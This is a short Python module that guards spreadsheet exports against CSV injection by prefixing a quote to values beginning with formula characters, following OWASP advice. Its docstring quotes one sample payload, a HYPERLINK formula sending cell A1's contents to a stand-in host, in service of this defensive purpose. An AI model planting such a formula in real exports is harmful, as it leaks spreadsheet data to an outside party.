"""Values bound for a spreadsheet, made safe: no exported cell ever starts a formula.

A registry entry named ``=HYPERLINK("http://x.example/?d="&A1,"Натисніть")`` must reach Excel or
LibreOffice as text. OWASP's advice for CSV injection: a value that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is prefixed with a single quote, which spreadsheets show as text
and hide. Every export of the site (CSV, XLSX, JSON, open data, reports) passes its values
through :func:`safe_cell`; XLSX writers also store every cell as a string.
"""

#: The characters a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula; others unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def safe_row(values) -> list:
    """:func:`safe_cell` of every value of a row."""
    return [safe_cell(value) for value in values]
